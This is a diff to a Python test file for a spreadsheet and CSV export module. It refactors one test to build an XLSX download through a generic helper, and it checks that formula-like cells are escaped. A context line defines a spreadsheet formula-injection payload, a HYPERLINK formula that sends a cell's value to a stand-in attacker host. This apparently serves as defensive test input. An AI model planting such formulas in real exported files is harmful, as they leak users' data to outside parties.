@@ -17,7 +17,6 @@ from cocreate.lib.exports import (
     download_response,
     sheet_title,
     xlsx_bytes,
-    xlsx_response,
 )
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
@@ -96,7 +95,7 @@ def test_it_sends_tables_as_files():
     response = csv_response(["name"], [["=1+1"]], "people.csv")
     assert response["Content-Type"] == CSV_TYPE and "no-store" not in response.get("Cache-Control", "")
     assert read_csv(response.content) == [["name"], ["'=1+1"]]
-    response = xlsx_response([Sheet("People", ["name"], [["Ana"]])], "people.xlsx")
+    response = download_response(xlsx_bytes([Sheet("People", ["name"], [["Ana"]])]), "people.xlsx", XLSX_TYPE)
     assert response["Content-Type"] == XLSX_TYPE
     assert read_xlsx(response.content)["People"]["A2"].value == "Ana"
 
